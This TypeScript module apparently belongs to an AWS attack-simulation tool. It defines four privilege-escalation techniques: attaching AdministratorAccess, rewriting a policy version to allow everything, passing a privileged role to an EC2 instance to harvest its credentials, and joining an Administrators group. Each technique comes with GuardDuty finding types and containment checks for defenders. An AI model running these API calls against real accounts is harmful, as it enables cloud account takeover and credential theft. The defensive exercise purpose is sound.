import { ADMIN_POLICY_ARN, adminDocument, apiCall, instancesHalted, isAdminDocument, launchedInstanceIds, succeeded, targetUser, whoamiOnly } from '../calls.js';
import { param } from '../params.js';
import { defineTechnique, type Technique } from '../technique.js';

const additionalCloudRoles = { id: 'T1098.003', name: 'Account Manipulation: Additional Cloud Roles' };

export const attachAdminToSelf = defineTechnique({
  id: 'attach-admin-policy',
  name: 'Attach AdministratorAccess to a user',
  tactic: 'privilege-escalation',
  mitre: additionalCloudRoles,
  description:
    "Attach the AWS managed AdministratorAccess policy to the key's own user (or another user). Works when the key may call iam:AttachUserPolicy, a common over-grant on CI users. Contained once the policy is detached or the user deleted.",
  calls: ['iam:AttachUserPolicy'],
  params: {
    userName: param.user(false, { label: 'User', help: "User to escalate; empty for the key's owner." }),
  },
  findingTypes: ['PrivilegeEscalation:IAMUser/AnomalousBehavior', 'UnauthorizedAccess:IAMUser/TorIPCaller'],
  plan: (params, context) => {
    const userName = targetUser(params.userName, context.state, params.accessKey);
    if (userName === undefined) return whoamiOnly(context.region);
    return [apiCall('iam', 'AttachUserPolicy', { userName, policyArn: ADMIN_POLICY_ARN }, context.region)];
  },
  isContained: (_params, outcomes, state) =>
    succeeded(outcomes, 'AttachUserPolicy').every((outcome) => {
      const user = state.users[String(outcome.call.params.userName)];
      return user === undefined || !user.attachedPolicies.includes(ADMIN_POLICY_ARN);
    }),
});

export const adminPolicyVersion = defineTechnique({
  id: 'create-admin-policy-version',
  name: 'Rewrite a managed policy to allow everything',
  tactic: 'privilege-escalation',
  mitre: additionalCloudRoles,
  description:
    'Create a new version of a customer managed policy that the key already has, with a document allowing every action, and make it the default. Needs iam:CreatePolicyVersion only; blue teams must set an earlier version as default or delete the new one.',
  calls: ['iam:CreatePolicyVersion'],
  params: {
    policyArn: param.policyArn(true, { label: 'Policy', help: 'Customer managed policy attached to the user the key belongs to.' }),
  },
  findingTypes: ['PrivilegeEscalation:IAMUser/AnomalousBehavior', 'UnauthorizedAccess:IAMUser/TorIPCaller'],
  plan: (params, context) => [apiCall('iam', 'CreatePolicyVersion', { policyArn: params.policyArn, policyDocument: adminDocument(), setAsDefault: true }, context.region)],
  isContained: (params, outcomes, state) => {
    if (succeeded(outcomes, 'CreatePolicyVersion').length === 0) return true;
    const policy = state.policies[params.policyArn];
    return policy === undefined || !isAdminDocument(policy.versions[policy.defaultVersionId]);
  },
});

export const passRoleToInstance = defineTechnique({
  id: 'passrole-run-instance',
  name: 'Launch an instance with a privileged role',
  tactic: 'privilege-escalation',
  mitre: { id: 'T1548.005', name: 'Abuse Elevation Control Mechanism: Temporary Elevated Cloud Access' },
  description:
    "Launch one small instance with another role's instance profile and read that role's credentials from the instance metadata service. Needs ec2:RunInstances and iam:PassRole on the role. Contained once the instance is stopped or terminated.",
  calls: ['ec2:RunInstances'],
  params: {
    roleName: param.role({ label: 'Role to pass', help: 'Role whose instance profile the instance gets.' }),
    imageId: param.imageId({ label: 'AMI', defaultValue: 'ami-0c02fb55956c7d316', help: 'Image to launch.' }),
    region: param.region(false, { label: 'Region', help: "Region to launch in; empty for the scenario's primary region." }),
  },
  findingTypes: ['PrivilegeEscalation:IAMUser/AnomalousBehavior', 'UnauthorizedAccess:IAMUser/TorIPCaller'],
  plan: (params, context) => [
    apiCall('ec2', 'RunInstances', { imageId: params.imageId, instanceType: 't3.micro', minCount: 1, maxCount: 1, iamInstanceProfile: params.roleName }, params.region ?? context.region),
  ],
  isContained: (_params, outcomes, state) => instancesHalted(state, launchedInstanceIds(outcomes)),
});

export const joinAdminGroup = defineTechnique({
  id: 'add-user-to-admin-group',
  name: 'Add a user to an administrators group',
  tactic: 'privilege-escalation',
  mitre: additionalCloudRoles,
  description:
    "Add the key's own user (or another user) to a group with administrator rights. Group membership is easy to miss when reviewing a user's attached policies. Contained once the user leaves the group or is deleted.",
  calls: ['iam:AddUserToGroup'],
  params: {
    groupName: param.group({ label: 'Group', defaultValue: 'Administrators', help: 'Group to join.' }),
    userName: param.user(false, { label: 'User', help: "User to add; empty for the key's owner." }),
  },
  findingTypes: ['PrivilegeEscalation:IAMUser/AnomalousBehavior', 'UnauthorizedAccess:IAMUser/TorIPCaller'],
  plan: (params, context) => {
    const userName = targetUser(params.userName, context.state, params.accessKey);
    if (userName === undefined) return whoamiOnly(context.region);
    return [apiCall('iam', 'AddUserToGroup', { userName, groupName: params.groupName }, context.region)];
  },
  isContained: (params, outcomes, state) =>
    succeeded(outcomes, 'AddUserToGroup').every((outcome) => {
      const user = state.users[String(outcome.call.params.userName)];
      return user === undefined || !user.groups.includes(params.groupName);
    }),
});

export const privilegeEscalationTechniques: Technique[] = [attachAdminToSelf, adminPolicyVersion, passRoleToInstance, joinAdminGroup];
